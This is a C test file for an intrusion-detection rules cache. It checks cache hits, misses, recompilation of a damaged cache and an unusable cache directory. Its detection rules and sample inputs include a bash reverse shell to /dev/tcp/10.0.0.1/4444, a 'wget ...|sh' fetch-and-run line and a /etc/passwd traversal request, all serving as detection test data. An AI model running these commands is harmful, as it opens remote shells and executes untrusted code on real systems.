// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The compiled-database cache: the second load is a hit and matches exactly as the first;
 * a changed content misses; a changed msg (not part of the database) still hits; a
 * damaged cache file is recompiled; an unusable cache directory only costs the cache.
 */
#include <dirent.h>
#include <stdlib.h>
#include <unistd.h>

#include "../support/test.h"
#include "../rules/rules_test.h"

#define RULES_V1                                                                                \
	"alert http any any -> any any (msg:\"traversal\"; http.uri; content:\"/etc/passwd\"; "  \
	"sid:1;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"reverse shell\"; pcre:\"/bash\\s+-i\\s+>&/\"; "    \
	"sid:2;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"no prefilter\"; content:!\"HTTP\"; dsize:<8; "     \
	"sid:3;)\n"                                                                            \
	"alert tcp any any -> any any (msg:\"wget\"; content:\"wget \"; nocase; "                \
	"content:\"|7c|sh\"; distance:0; sid:4;)\n"

static const char *const samples[] = {
	"GET /a/..//etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"ping",
	"WGET http://x/y.sh|sh",
	"nothing to see here, nothing at all",
};

static char cache_dir[] = "/tmp/edgewatch-rules-cache-XXXXXX";

static size_t count_cache_files(void)
{
	DIR *dir = opendir(cache_dir);
	struct dirent *entry;
	size_t n = 0;

	if (!dir)
		return 0;
	while ((entry = readdir(dir)))
		n += strncmp(entry->d_name, "rules-", 6) == 0;
	closedir(dir);
	return n;
}

static void remove_cache_dir(void)
{
	DIR *dir = opendir(cache_dir);
	struct dirent *entry;
	char path[512];

	if (!dir)
		return;
	while ((entry = readdir(dir))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", cache_dir, entry->d_name);
		unlink(path);
	}
	closedir(dir);
	rmdir(cache_dir);
}

/* The sids each sample raises, as one string per sample. */
static int scan_all(const struct ruleset *rs, char results[][64])
{
	size_t i;

	for (i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		struct scan_input in = test_input(samples[i]);
		struct test_matches matches;

		if (test_scan(rs, &in, &matches))
			return -1;
		test_sids_text(&matches, results[i], 64);
	}
	return 0;
}

static void test_second_load_hits(struct test_case *t)
{
	char first[5][64], second[5][64];
	struct rules_report report1, report2;
	struct ruleset *rs1 = NULL, *rs2 = NULL;
	size_t i;

	CHECK(t, test_load_text(RULES_V1, &rs1, &report1, cache_dir) == 0, "first load");
	EXPECT(t, !report1.cache_hit, "first load cannot hit");
	EXPECT(t, count_cache_files() == 1, "%zu cache files after the first load",
	       count_cache_files());
	EXPECT(t, test_load_text(RULES_V1, &rs2, &report2, cache_dir) == 0, "second load");
	EXPECT(t, report2.cache_hit, "second load missed the cache");
	EXPECT(t, report2.no_prefilter == report1.no_prefilter && report2.no_prefilter == 1,
	       "no_prefilter %zu vs %zu", report2.no_prefilter, report1.no_prefilter);
	if (rs1 && rs2) {
		EXPECT(t, scan_all(rs1, first) == 0 && scan_all(rs2, second) == 0, "scans");
		for (i = 0; i < 5; i++)
			EXPECT(t, strcmp(first[i], second[i]) == 0, "sample %zu: %s vs %s", i, first[i],
			       second[i]);
		EXPECT(t, !strcmp(first[0], "1") && !strcmp(first[1], "2") &&
				  !strcmp(first[2], "3") && !strcmp(first[3], "4") &&
				  !strcmp(first[4], "none"),
		       "expected matches: %s %s %s %s %s", first[0], first[1], first[2], first[3],
		       first[4]);
	}
	ruleset_free(rs1);
	ruleset_free(rs2);
	rules_report_free(&report1);
	rules_report_free(&report2);
}

static void test_changed_content_misses(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	struct test_matches matches;
	struct scan_input in = test_input("GET /etc/shadow HTTP/1.1\r\n\r\n");
	char *changed = strdup(RULES_V1), *at;

	CHECK(t, changed, "strdup");
	at = strstr(changed, "/etc/passwd");
	memcpy(at, "/etc/shadow", 11);
	EXPECT(t, test_load_text(changed, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, !report.cache_hit, "a changed content must miss the cache");
	EXPECT(t, count_cache_files() == 2, "%zu cache files", count_cache_files());
	EXPECT(t, rs && test_scan(rs, &in, &matches) == 0 && matches.count == 1 &&
			  matches.sids[0] == 1,
	       "the new content matches");
	ruleset_free(rs);
	rules_report_free(&report);
	free(changed);
}

static void test_changed_msg_hits(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	char *changed = strdup(RULES_V1), *at;

	CHECK(t, changed, "strdup");
	at = strstr(changed, "traversal");
	memcpy(at, "TRAVERSAL", 9);
	EXPECT(t, test_load_text(changed, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, report.cache_hit, "msg is not part of the database: should hit");
	EXPECT(t, rs && !strcmp(ruleset_rule(rs, 0)->msg, "TRAVERSAL"), "new msg");
	ruleset_free(rs);
	rules_report_free(&report);
	free(changed);
}

static void test_damaged_cache_recompiles(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;
	char results[5][64];
	struct dirent *entry;
	char path[512] = "";
	DIR *dir = opendir(cache_dir);
	FILE *file;

	CHECK(t, dir, "opendir");
	/* damage every cache file: keep the header, cut the database short */
	while ((entry = readdir(dir))) {
		if (strncmp(entry->d_name, "rules-", 6) != 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", cache_dir, entry->d_name);
		EXPECT(t, truncate(path, 60) == 0, "truncate %s", path);
	}
	closedir(dir);
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, cache_dir) == 0, "load");
	EXPECT(t, !report.cache_hit, "a damaged file is not a hit");
	EXPECT(t, rs && scan_all(rs, results) == 0 && !strcmp(results[1], "2"), "recompiled works");
	ruleset_free(rs);
	rules_report_free(&report);
	/* and the recompile rewrote it */
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, cache_dir) == 0 && report.cache_hit,
	       "rewritten cache should hit");
	file = fopen(path, "rb");
	EXPECT(t, file != NULL, "cache file back");
	if (file)
		fclose(file);
	ruleset_free(rs);
	rules_report_free(&report);
}

static void test_unusable_cache_dir(struct test_case *t)
{
	struct rules_report report;
	struct ruleset *rs = NULL;

	/* a directory below a regular file cannot exist: the load goes on without a cache */
	EXPECT(t, test_load_text(RULES_V1, &rs, &report, "/etc/hostname/cache") == 0 && rs,
	       "load must not fail because of the cache");
	EXPECT(t, !report.cache_hit, "no hit");
	ruleset_free(rs);
	rules_report_free(&report);
}

int main(void)
{
	test_program = "test_rules_cache";
	if (!mkdtemp(cache_dir)) {
		printf("FAIL test_rules_cache/setup: mkdtemp\n");
		return 1;
	}
	RUN(test_second_load_hits);
	RUN(test_changed_content_misses);
	RUN(test_changed_msg_hits);
	RUN(test_damaged_cache_recompiles);
	RUN(test_unusable_cache_dir);
	remove_cache_dir();
	return test_summary();
}
